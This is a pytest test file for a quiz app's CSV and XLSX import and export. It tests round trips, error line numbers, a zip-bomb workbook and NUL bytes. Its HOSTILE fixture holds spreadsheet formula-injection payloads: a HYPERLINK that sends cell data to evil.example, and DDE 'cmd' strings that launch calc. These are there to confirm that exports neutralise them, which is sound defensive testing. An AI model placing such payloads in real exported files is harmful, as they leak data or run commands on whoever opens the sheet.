from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from quiz_app.core.errors import PackError
from quiz_app.core.questions import Question, QuestionType
from quiz_app.core.serialize import question_to_dict
from quiz_app.packs.formats import load_any
from quiz_app.packs.native import load_pack
from quiz_app.packs.spreadsheet import COLUMNS, csv_text, load_csv
from quiz_app.services.packs import import_pack
from quiz_app.storage import Database
from tests.conftest import SAMPLE_PACK, snapshot

HEADER = ",".join(COLUMNS)


def _csv(tmp_path: Path, *rows: str, name: str = "class-quiz.csv") -> Path:
    path = tmp_path / name
    path.write_text("\n".join([HEADER, *rows]) + "\n", encoding="utf-8")
    return path


def test_every_type_survives_export_and_import(tmp_path: Path) -> None:
    original = load_pack(SAMPLE_PACK)
    first = csv_text(original)
    path = tmp_path / "sample.csv"
    path.write_text(first, encoding="utf-8")
    again = load_any(path)
    assert [q.key for q in again.questions] == [q.key for q in original.questions]
    assert {q.type for q in again.questions} == {q.type for q in original.questions}
    assert csv_text(again) == first  # lossless for everything a CSV can hold
    for before, after in zip(original.questions, again.questions, strict=True):
        assert after.prompt == before.prompt
        assert after.explanation == before.explanation
        assert after.source == before.source


def test_a_teachers_sheet_with_excels_bom(tmp_path: Path) -> None:
    path = tmp_path / "Week 3.csv"
    rows = [
        "x1,single,Missions,1,Which mission landed first on the far side?,,"
        "Chang'e-3 | Chang'e-4,,B,,,,,,,",
        ",true_false,Missions,,The Moon rotates once per orbit.,,,,true,,,,,,,",
        ',numeric,Samples,3,Grams returned by Chang\'e-5?,,,,"1,731",,5,g,,,,',
        ",short_text,Relays,2,Name the relay satellite of Chang'e-4.,,,,Queqiao | Magpie Bridge"
        ",,,,,,,",
    ]
    path.write_bytes(b"\xef\xbb\xbf" + ("\n".join([HEADER, *rows]) + "\n").encode())
    pack = load_any(path)
    assert pack.info.id == "week-3"
    assert [t.key for t in pack.info.topics] == ["missions", "samples", "relays"]
    assert [q.type.value for q in pack.questions] == [
        "single",
        "true_false",
        "numeric",
        "short_text",
    ]
    assert pack.questions[0].key == "x1"
    assert pack.questions[2].body.answer == 1731  # type: ignore[union-attr]
    assert pack.questions[1].difficulty == 2  # default


def test_problems_are_reported_at_the_csv_line(tmp_path: Path, database: Database) -> None:
    path = _csv(
        tmp_path,
        "a,single,T,1,Fine question?,,x | y,,A,,,,,,,",
        "b,single,T,1,Broken answer?,,x | y,,Z,,,,,,,",
        "c,numeric,T,9,Too hard?,,,,12,,,,,,,",
        "d,essay,T,1,What type?,,,,,,,,,,,",
    )
    with pytest.raises(PackError) as caught:
        load_csv(path)
    assert [str(p) for p in caught.value.problems] == [
        f"{path}:3: question 'b': answer 'z' is not one of the choices (a, b)",
        f"{path}:4: question 'c': 'difficulty': input should be less than or equal to 3",
        f"{path}:5: question 'd': unknown question type 'essay'; the types are card, matching, "
        "multiple, numeric, ordering, short_text, single, true_false",
    ]
    before = snapshot(database)
    with pytest.raises(PackError):
        import_pack(database, path)
    assert snapshot(database) == before


def test_a_row_translated_only_in_part(tmp_path: Path) -> None:
    path = _csv(tmp_path, "a,single,T,1,Which?,哪个？,x | y,,A,,,,,,,")
    with pytest.raises(PackError) as caught:
        load_csv(path)
    assert [str(p) for p in caught.value.problems] == [
        f"{path}:2: question 'a': 'choices.0.text' is in en but the prompt is in en and zh: "
        "translate every text of a question, or none",
        f"{path}:2: question 'a': 'choices.1.text' is in en but the prompt is in en and zh: "
        "translate every text of a question, or none",
    ]


def test_wrong_columns_are_named(tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_text("kind,question\nsingle,What?\n", encoding="utf-8")
    with pytest.raises(PackError) as caught:
        load_csv(path)
    messages = [str(p) for p in caught.value.problems]
    assert messages[0].startswith(f"{path}:1: unknown column 'kind'; the columns are id, type")
    assert f"{path}:1: missing column 'type'" in messages


def test_xlsx_round_trip_and_row_numbers(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from quiz_app.packs.spreadsheet import xlsx_bytes

    original = load_pack(SAMPLE_PACK)
    path = tmp_path / "sample.xlsx"
    path.write_bytes(xlsx_bytes(original))
    again = load_any(path)
    assert csv_text(again) == csv_text(original)

    workbook = load_workbook(path)
    sheet = workbook.active
    assert sheet is not None
    sheet["I4"] = "Z"  # row 4: the third question's answer column
    sheet["B4"] = "single"
    workbook.save(path)
    with pytest.raises(PackError) as caught:
        load_any(path)
    assert all(str(p).startswith(f"{path}:4: ") for p in caught.value.problems)


def test_a_zip_bomb_dressed_as_a_workbook_is_refused(tmp_path: Path) -> None:
    import zipfile

    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (8 << 20))
    with pytest.raises(PackError, match="a zip bomb"):
        load_any(path)
    (tmp_path / "junk.xlsx").write_bytes(b"not a workbook")
    with pytest.raises(PackError, match="is not a readable file"):
        load_any(tmp_path / "junk.xlsx")


def test_a_stray_carriage_return_is_a_located_problem(tmp_path: Path) -> None:
    path = tmp_path / "odd.csv"
    path.write_bytes((HEADER + "\na,single,T,1,Which\rone?,,x | y,,A,,,,,,,\n").encode())
    try:
        load_csv(path)
    except PackError as err:
        problems = [str(p) for p in err.problems]
    else:
        problems = []
    # Either read as a line break inside the prompt, or reported with its line.
    assert all(p.startswith(f"{path}:") for p in problems)


@pytest.mark.parametrize("pack_name", ["change-missions", "lunar-science"])
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_built_in_packs_survive_a_spreadsheet(
    tmp_path: Path, pack_name: str, suffix: str
) -> None:
    from quiz_app.packs.spreadsheet import xlsx_bytes
    from quiz_app.services.packs import builtin_packs_dir

    original = load_pack(builtin_packs_dir() / pack_name)
    path = tmp_path / f"{pack_name}{suffix}"
    if suffix == ".csv":
        path.write_text(csv_text(original), encoding="utf-8")
    else:
        path.write_bytes(xlsx_bytes(original))
    again = load_any(path)
    assert len(again.questions) == len(original.questions) > 100
    for before, after in zip(original.questions, again.questions, strict=True):
        # everything but the image and the group, which a sheet cannot carry, and the ids
        # of choices, which a sheet numbers in order
        assert _by_position(after) == _by_position(
            replace(before, image=None, image_alt=None, group=None)
        )


def _by_position(question: Question) -> dict[str, Any]:
    """The question as a dict, with choices, items and pairs known by position."""
    data = question_to_dict(question)
    for name in ("choices", "items", "pairs"):
        if name in data:
            ids = [entry.pop("id") for entry in data[name]]
            if question.type is QuestionType.SINGLE:
                data["answer"] = ids.index(data["answer"])
            if question.type is QuestionType.MULTIPLE:
                data["answers"] = [ids.index(a) for a in data["answers"]]
    return data


HOSTILE = {
    "prompt": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "choice": "=2+5*cmd!A0",  # (a | would split it: the CSV's separator)
    "explanation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "+1 555 0100",
}


def _hostile_pack() -> Any:
    """The sample pack with texts a spreadsheet would run, where a teacher could type them."""
    from quiz_app.core.questions import Choice, SingleChoice
    from quiz_app.core.text import LocalizedText

    original = load_pack(SAMPLE_PACK)
    first = next(q for q in original.questions if isinstance(q.body, SingleChoice))
    body = first.body
    assert isinstance(body, SingleChoice)
    choices = (
        Choice(body.choices[0].id, LocalizedText.of({"en": HOSTILE["choice"], "zh": "-5 度"})),
        *body.choices[1:],
    )
    hostile = replace(
        first,
        prompt=LocalizedText.of({"en": HOSTILE["prompt"], "zh": "'=1+1"}),
        body=SingleChoice(choices, body.answer),
        explanation=LocalizedText.of({"en": HOSTILE["explanation"], "zh": "@你好"}),
        source=HOSTILE["source"],
    )
    questions = tuple(hostile if q is first else q for q in original.questions)
    return replace(original, questions=questions), hostile.key


def test_a_csv_export_runs_nothing_in_a_spreadsheet_and_reads_back_exactly(
    tmp_path: Path,
) -> None:
    import csv
    import io

    pack, key = _hostile_pack()
    text = csv_text(pack)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in text
    path = tmp_path / "hostile.csv"
    path.write_text(text, encoding="utf-8")
    again = next(q for q in load_any(path).questions if q.key == key)
    before = next(q for q in pack.questions if q.key == key)
    assert again.prompt == before.prompt  # "'=1+1" in Chinese too: the quote kept
    assert again.explanation == before.explanation
    assert again.source == before.source
    assert again.body == before.body


def test_an_xlsx_export_holds_text_cells_never_formulas(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from quiz_app.packs.spreadsheet import xlsx_bytes

    pack, key = _hostile_pack()
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(xlsx_bytes(pack))
    sheet = load_workbook(path).active
    assert sheet is not None
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
    assert "f" not in kinds  # not one formula
    assert HOSTILE["prompt"] in [cell.value for row in sheet.iter_rows() for cell in row]
    again = next(q for q in load_any(path).questions if q.key == key)
    assert again.prompt == next(q for q in pack.questions if q.key == key).prompt


def test_a_nul_byte_in_a_cell_is_a_located_problem(tmp_path: Path) -> None:
    path = _csv(
        tmp_path,
        "a,single,T,1,Fine question?,,x | y,,A,,,,,,,",
        "b,single,T,1,Hidden\x00text?,,x | y,,A,,,,,,,",
    )
    with pytest.raises(PackError) as caught:
        load_csv(path)
    [problem] = caught.value.problems
    assert str(problem).startswith(f"{path}:3: question 'b': ")
    assert "U+0000" in str(problem)
